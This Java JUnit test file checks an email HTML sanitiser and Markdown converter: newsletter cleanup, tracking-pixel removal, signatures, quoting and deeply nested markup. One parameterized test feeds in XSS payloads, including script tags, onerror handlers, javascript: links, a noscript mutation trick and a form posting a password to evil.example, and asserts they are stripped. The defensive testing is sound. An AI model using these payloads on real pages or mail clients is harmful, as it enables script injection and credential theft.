package dev.syncline.mime.clean;

import static org.assertj.core.api.Assertions.assertThat;

import dev.syncline.mime.clean.ConversationForm.Images;
import java.util.List;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ConversationTest {
  private static final ConversationForm WORDS =
      new ConversationForm(false, Images.LEFT_OUT, false, false, false, false);
  private static final ConversationForm ALL =
      new ConversationForm(true, Images.AS_HTML, true, false, false, false);
  private static final ConversationForm MARKDOWN =
      new ConversationForm(true, Images.AS_MARKDOWN, true, false, false, true);

  private static final String NEWSLETTER =
      """
      <html><head><style>p {color: red}</style></head><body>
      <div style="display:none">For the list only</div>
      <table width="600"><tbody><tr><td style="font-size:14px"><p class="x">Hello <b>Jane</b>,</p></td></tr>
      <tr><td><a href="https://example.com/a?b=1">read on</a> <img src="cid:logo@x" alt="Our [logo]" width="40">
      <img src="https://track.example/p" width="1" height="1"></td></tr></tbody></table></body></html>
      """;

  @Test
  void wordsStayAndLooksDoNot() {
    assertThat(Conversation.ofHtml(NEWSLETTER, WORDS))
        .contains("<p>Hello <b>Jane</b>,</p>", "read on")
        .doesNotContain(
            "<a", "<img", "<t", "style", "class", "track", "For the list only", "color");
  }

  @Test
  void whatIsWantedStays() {
    assertThat(Conversation.ofHtml(NEWSLETTER, ALL))
        .contains(
            "<table>", "<td>", "<a href=\"https://example.com/a?b=1\"", "<img src=\"cid:logo@x\"")
        .doesNotContain("track");
  }

  @Test
  void picturesAreMarkdownWithinHtml() {
    var form = new ConversationForm(false, Images.AS_MARKDOWN, false, false, false, false);

    assertThat(Conversation.ofHtml("See<br><img src=\"cid:a b\" alt=\"<i>\">", form))
        .isEqualTo("See<br>![\\&lt;i\\&gt;](cid:a%20b)");
  }

  @Test
  void aRowIsALineWithoutItsTable() {
    assertThat(
            Conversation.ofHtml(
                "<table><tr><td>Item</td><td>Price</td></tr><tr><td>Cake</td><td>9</td></tr></table>",
                WORDS))
        .contains("Item Price", "Cake 9")
        .containsPattern("Price\\s*</div>");
  }

  @Test
  void oneBoxAroundAllIsTakenAwayAndSoAreEmptyLinesAroundIt() {
    assertThat(
            Conversation.ofHtml(
                "<div dir=\"ltr\"><br><div>Hello, I just sent this! <br></div><br></div>", WORDS))
        .isEqualTo("Hello, I just sent this!");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "<div style=\"background:url(https://evil.example/x)\">x</div>",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<img alt=\"](javascript:alert(1))\" src=\"cid:x\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"
      })
  void nothingOfTheSendersRunsInAnyForm(String html) {
    for (var form : List.of(WORDS, ALL)) {
      assertThat(Conversation.ofHtml(html, form))
          .doesNotContain("<script", "onerror=", "href=\"javascript", "evil.example", "svg");
    }
    assertThat(shown(Conversation.ofHtml(html, MARKDOWN)))
        .doesNotContain("<script", "onerror=", "href=\"javascript", "evil.example", "svg");
  }

  private static String shown(String markdown) {
    var tables = List.of(TablesExtension.create());
    var parsed = Parser.builder().extensions(tables).build().parse(markdown);
    return HtmlRenderer.builder().extensions(tables).build().render(parsed);
  }

  @Test
  void markdownReadsBackAsWhatTheHtmlSaid() {
    var html =
        """
        <h2>Plan</h2><div>First <b>line </b>and<i> more</i></div><div>second line</div><div><br></div>
        <p>1. not a list &lt;b&gt; *no emphasis*</p><ul><li>one<ol start="3"><li>three</li></ol></li><li>two</li></ul>
        <blockquote><p>said</p></blockquote><pre>a  b
        c</pre><p><a href="https://example.com/(x)">link</a> <code>x*y</code> <img src="cid:p" alt="pic"></p>
        <table><tr><th>Item</th><th>Price</th></tr><tr><td>Cake | tea</td><td>9</td></tr></table>
        """;

    var markdown = Conversation.ofHtml(html, MARKDOWN);

    assertThat(markdown).startsWith("## Plan\n\nFirst **line** and *more*  \nsecond line\n\n");
    assertThat(shown(markdown).replaceAll("\\s*\n\\s*", ""))
        .contains(
            "<h2>Plan</h2><p>First <strong>line</strong> and <em>more</em><br />second line</p>")
        .contains("<p>1. not a list &lt;b&gt; *no emphasis*</p>")
        .contains("<li><p>one</p><ol start=\"3\"><li>three</li></ol></li><li><p>two</p></li>")
        .contains("<blockquote><p>said</p></blockquote><pre><code>a  bc</code></pre>")
        .contains(
            "<a href=\"https://example.com/(x)\">link</a> <code>x*y</code> <img src=\"cid:p\"")
        .contains("<th>Item</th><th>Price</th>", "<td>Cake | tea</td><td>9</td>");
  }

  @Test
  void textIsTakenApartLikeHtml() {
    var text =
        """
        Use <b> & *stars*.
          Twice.

        Best regards
        Jane

        On 11/23/2026 09:15 AM, Joe wrote:
        > How?
        """;

    assertThat(Conversation.ofText(text, WORDS))
        .isEqualTo("Use &lt;b&gt; &amp; *stars*.<br> &nbsp; Twice.");
    assertThat(Conversation.ofText(text, MARKDOWN))
        .isEqualTo("Use \\<b\\> \\& \\*stars\\*.  \nTwice.");
  }

  @Test
  void signatureAndQuotationStayWhenWanted() {
    var html = "<p>Yes.</p><p>Best regards<br>Jane</p><blockquote type=cite>When?</blockquote>";

    assertThat(Conversation.ofHtml(html, WORDS)).isEqualTo("<p>Yes.</p>");
    assertThat(
            Conversation.ofHtml(
                html, new ConversationForm(false, Images.LEFT_OUT, false, false, true, false)))
        .isEqualTo("<p>Yes.</p><p>Best regards<br>Jane</p>");
    assertThat(
            Conversation.ofHtml(
                html, new ConversationForm(false, Images.LEFT_OUT, false, true, false, false)))
        .contains("When?");
  }

  @Test
  void nothingIsNothing() {
    assertThat(Conversation.ofHtml("", WORDS)).isEmpty();
    assertThat(Conversation.ofHtml("<table><tr><td> <br></td></tr></table>", ALL)).isEmpty();
    assertThat(Conversation.ofText("\n> quoted\n> only\n", MARKDOWN)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<b>", "<i><b>", "<div>", "<ul><li>", "<blockquote>", "<table><tr><td>", "<span>x</span>y",
        "<b></b>x", "<img src=x>", "<br>", "<a href=x>", "<pre>", "<p>", "<h1>x"
      })
  void endlessMarkupIsReadOnce(String piece) {
    var html = "text " + piece.repeat(60_000 / piece.length()) + " end";

    for (var form : List.of(WORDS, ALL, MARKDOWN)) {
      assertThat(Conversation.ofHtml(html, form)).contains("text");
    }
  }
}
